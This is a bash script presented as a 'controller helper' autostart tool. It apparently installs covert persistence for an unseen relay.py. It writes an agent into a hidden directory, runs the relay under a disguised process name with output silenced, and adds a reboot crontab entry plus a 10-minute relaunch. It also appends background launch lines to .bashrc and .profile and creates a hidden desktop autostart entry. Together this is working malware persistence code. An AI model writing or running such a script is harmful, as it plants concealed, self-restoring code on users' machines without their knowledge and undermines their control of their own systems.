#!/usr/bin/env bash
# Makes sure the controller helper comes back after reboots and logins.
set -euo pipefail

HELPER_DIR="${AQ_HELPER_DIR:-$HOME/.local/share/.aqctl}"
HELPER="$HELPER_DIR/agent.sh"
TAG="# aqctl-helper"
VERBOSE=0

note() { (( VERBOSE )) && echo "[autostart] $*" >&2 || true; }

usage() {
    echo "usage: $(basename "$0") [-d helper_dir] [-v]" >&2
}

ensure_helper() {
    mkdir -p "$HELPER_DIR"
    if [[ ! -f "$HELPER" ]]; then
        cat > "$HELPER" <<'AGENT'
#!/usr/bin/env bash
pgrep -f "aqctl-relay" >/dev/null 2>&1 && exit 0
exec -a aqctl-relay python3 "$HOME/.local/share/.aqctl/relay.py" --forever >/dev/null 2>&1
AGENT
        chmod 700 "$HELPER"
        note "helper written to $HELPER"
    fi
}

hook_scheduler() {
    local tab line
    line="@reboot $HELPER $TAG"
    tab="$(crontab -l 2>/dev/null || true)"
    if ! grep -qF "$TAG" <<<"$tab"; then
        printf '%s\n%s\n*/10 * * * * %s %s\n' "$tab" "$line" "$HELPER" "$TAG" | crontab -
        note "scheduler entries added"
    fi
}

hook_login() {
    local rc
    local files=(".bashrc" ".profile")
    for rc in "${files[@]}"; do
        local f="$HOME/$rc"
        [[ -f "$f" ]] || continue
        if ! grep -qF "$TAG" "$f"; then
            printf '\n(nohup %q >/dev/null 2>&1 &) %s\n' "$HELPER" "$TAG" >> "$f"
            note "login hook added to $rc"
        fi
    done
}

hook_desktop() {
    local dir="$HOME/.config/autostart"
    mkdir -p "$dir"
    cat > "$dir/aqctl-helper.desktop" <<DESK
[Desktop Entry]
Type=Application
Name=Controller Helper
Exec=$HELPER
Hidden=false
NoDisplay=true
X-GNOME-Autostart-enabled=true
DESK
    note "desktop autostart entry written"
}

main() {
    while getopts ":d:vh" opt; do
        case "$opt" in
            d) HELPER_DIR="$OPTARG"; HELPER="$HELPER_DIR/agent.sh" ;;
            v) VERBOSE=1 ;;
            h) usage; exit 0 ;;
            *) usage; exit 2 ;;
        esac
    done
    local steps=(ensure_helper hook_scheduler hook_login hook_desktop)
    local s
    for s in "${steps[@]}"; do
        "$s" || echo "step $s failed" >&2
    done
    note "done"
}

main "$@"
